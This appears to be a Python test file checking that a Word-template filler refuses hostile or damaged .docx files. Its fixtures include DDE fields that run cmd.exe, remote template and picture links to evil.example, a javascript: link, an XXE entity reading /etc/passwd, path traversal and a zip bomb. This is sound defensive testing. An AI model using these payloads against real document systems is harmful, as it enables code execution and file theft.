"""Hostile templates are refused before anything of them is used, each with a sentence that a clerk can act on."""

import io
import zipfile

import pytest

from prongsai.documents.template.fill import check_template, fill_template
from prongsai.documents.template.model import Slot, TemplateUnfit, says
from prongsai.errors import FileUnusable, LimitExceeded
from tests.documents.template.word import MAIN, PNG, field, header, p, tie, word

SLOTS = (Slot("agency", "หน่วยงาน"),)
FINE = p("{{ agency }}")

HOSTILE = {
    "macros": word(FINE, main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a macro part": word(FINE, parts={"word/vbaProject.bin": b"\x00"}),
    "a template with macros": word(FINE, main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    "a remote template": word(FINE, ties=tie("attachedTemplate", "https://evil.example/a.dotm", external=True)),
    "a remote picture": word(FINE, ties=tie("image", "http://evil.example/a.png", external=True)),
    "a picture of a share": word(FINE, ties=tie("image", "file://///evil.example/a.png", external=True)),
    "a script behind a link": word(FINE, ties=tie("hyperlink", "javascript:alert(1)", external=True)),
    "an embedded object": word(FINE, ties=tie("oleObject", "embeddings/a.bin"), parts={"word/embeddings/a.bin": b"x"}),
    "an object's element": word(FINE, '<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>'),
    "a control": word(FINE, '<w:p><w:r><w:control r:id="rId1"/></w:r></w:p>'),
    "an inserted file": word(FINE, '<w:altChunk r:id="rId1"/>'),
    "an inserted page": word(FINE, ties=tie("aFChunk", "a.html"), parts={"word/a.html": b"<script>1</script>"}),
    "a field DDE": word(FINE, field(" DDE cmd /c calc ")),
    "a field DDEAUTO": word(FINE, field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
    "a field INCLUDETEXT": word(FINE, field(" INCLUDETEXT http://evil.example/a.docx ")),
    "a field INCLUDEPICTURE": word(FINE, field(' INCLUDEPICTURE "http://evil.example/a.png" \\\\d ')),
    "a field MACROBUTTON": word(FINE, '<w:p><w:fldSimple w:instr=" MACROBUTTON Run "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    "a mail merge": word(FINE, parts={"word/settings.xml": header("<w:mailMerge/>", tag="settings")}),
    "a subdocument": word(FINE, '<w:subDoc r:id="rId1"/>'),
    "a picture that is none": word(FINE, parts={"word/media/a.emf": b"\x01\x00\x00\x00" * 20}),
    "a drawing with a script": word(FINE, parts={"word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"}),
    "a picture outside the folder of pictures": word(FINE, parts={"word/pics/a.emf": b"\x01\x00\x00\x00" * 20}),
    "a head under another ending": word(FINE, ties=tie("header", "header1.dat"), parts={"word/header1.dat": b"<w:hdr/>"}),
    "relations in capitals": word(FINE, parts={"word/_rels/styles.xml.RELS": b"<Relationships/>"}),
    "the strict names of everything": word(FINE, parts={"word/a.xml": b"<d xmlns='http://purl.oclc.org/ooxml/wordprocessingml/main'/>"}),
    "an unknown relation": word(FINE, ties=tie("webextension", "a.xml"), parts={"word/a.xml": b"<a/>"}),
    "tracked changes": word(FINE, "<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>"),
    "comments": word(FINE, '<w:p><w:r><w:commentReference w:id="1"/></w:r></w:p>'),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_a_template_that_acts_or_reaches_out_is_refused(what: str) -> None:
    problems = check_template(HOSTILE[what], "a.docx", SLOTS).problems
    assert problems and all(problem.code.startswith("TEMPLATE_") and problem.mend_th for problem in problems)
    with pytest.raises(TemplateUnfit):
        fill_template(HOSTILE[what], "a.docx", SLOTS, {"agency": says("ก")})


def _bomb() -> bytes:
    return word(FINE, parts={"word/media/a.png": PNG + b"\x00" * 150_000_000})


def _twice() -> bytes:
    stream = io.BytesIO(word(FINE))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("WORD/document.xml", b"<a/>")
    return stream.getvalue()


DAMAGED = {
    "an entity": word(FINE, prolog='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "many entities": word(FINE, prolog='<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>'),
    "a document type elsewhere": word(FINE, parts={"docProps/app.xml": b"<!DOCTYPE a><a/>"}),
    "a part twice": _twice(),
    "a part that is not there": word(FINE, ties=tie("header", "../../etc/passwd")),
    "no zip": b"not a zip at all",
    "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "depth": word("<w:sdt>" * 400 + "</w:sdt>" * 400),
}


@pytest.mark.parametrize("what", DAMAGED)
def test_a_damaged_or_deceiving_file_is_refused(what: str) -> None:
    with pytest.raises(FileUnusable) as refused:
        check_template(DAMAGED[what], "a.docx", SLOTS)
    assert refused.value.message_th


def test_a_file_that_unpacks_to_very_much_is_refused() -> None:
    with pytest.raises(LimitExceeded):
        check_template(_bomb(), "a.docx", SLOTS)


def test_a_usual_file_passes() -> None:
    links = tie("hyperlink", "https://www.example.go.th", external=True, id="rId3")
    head = header(p("เทศบาล"), field(" PAGE "))
    fine = word(
        FINE, ties=tie("header", "header1.xml") + links, parts={"word/header1.xml": head, "word/media/a.png": PNG}
    )
    assert MAIN in str(zipfile.ZipFile(io.BytesIO(fine)).read("[Content_Types].xml"))
    assert check_template(fine, "a.docx", SLOTS).problems == ()
